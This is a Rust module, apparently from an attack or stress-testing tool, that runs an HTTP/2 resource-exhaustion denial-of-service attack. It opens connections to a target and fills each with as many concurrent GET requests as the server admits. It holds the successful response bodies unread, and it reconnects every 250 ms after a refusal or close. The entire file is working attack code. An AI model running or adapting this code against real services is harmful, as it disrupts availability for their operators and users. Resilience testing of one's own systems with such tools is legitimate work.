//! One HTTP/2 connection with as many requests on it as the service lets in.

use super::Attack;
use axum::http::{HeaderName, HeaderValue, Method, Request};
use h2::RecvStream;
use h2::client::{ResponseFuture, handshake};
use std::net::Ipv4Addr;
use std::time::Duration;
use tokio::task::JoinSet;

/// Before a connection that was refused or closed is made again.
const PAUSE: Duration = Duration::from_millis(250);
/// For the service to let one more request in.
const TO_LET_IN: Duration = Duration::from_secs(1);

/// What is asked for, again and again.
pub struct Asks {
    pub path: String,
    pub header: (HeaderName, HeaderValue),
    /// How often at once.
    pub at_once: usize,
}

/// Asks over one connection, and holds all answers without reading them, until the attack is over.
pub async fn ask(attack: &Attack, from: Ipv4Addr, asks: &Asks) {
    while !attack.stop.is_cancelled() {
        attack.tally.tried();
        if attack.stop.run_until_cancelled(one_connection(attack, from, asks)).await.is_some() {
            attack.tally.closed();
        }
        attack.pause(PAUSE).await;
    }
}

/// Until it is closed, or cannot be used.
async fn one_connection(attack: &Attack, from: Ipv4Addr, asks: &Asks) -> Option<()> {
    let stream = attack.target.connect(from).await.ok()?;
    let _open = attack.tally.open();
    let (mut send, connection) = handshake(stream).await.ok()?;
    // Dropped, and so ended, with this function.
    let mut driving: JoinSet<()> = JoinSet::new();
    driving.spawn(async move {
        let _ = connection.await;
    });
    let mut waiting: JoinSet<Option<RecvStream>> = JoinSet::new();
    let mut held = Vec::new();
    for _ in 0..asks.at_once {
        let ready = tokio::time::timeout(TO_LET_IN, send.ready()).await;
        let Ok(Ok(ready)) = ready else { break };
        send = ready;
        let (answer, _) = send.send_request(request(attack, asks)?, true).ok()?;
        attack.tally.tried();
        let tally = attack.tally.clone();
        waiting.spawn(async move { take(answer, &tally).await });
    }
    loop {
        tokio::select! {
            _ = driving.join_next() => return None,
            Some(answer) = waiting.join_next() => held.extend(answer.ok().flatten()),
        }
    }
}

async fn take(answer: ResponseFuture, tally: &super::Tally) -> Option<RecvStream> {
    match answer.await {
        Ok(answer) => {
            tally.answered(answer.status().as_u16());
            answer.status().is_success().then(|| answer.into_body())
        }
        Err(_) => {
            tally.refused();
            None
        }
    }
}

fn request(attack: &Attack, asks: &Asks) -> Option<Request<()>> {
    let (name, value) = asks.header.clone();
    let request = Request::builder().method(Method::GET).uri(attack.target.url(&asks.path));
    request.header(name, value).body(()).ok()
}
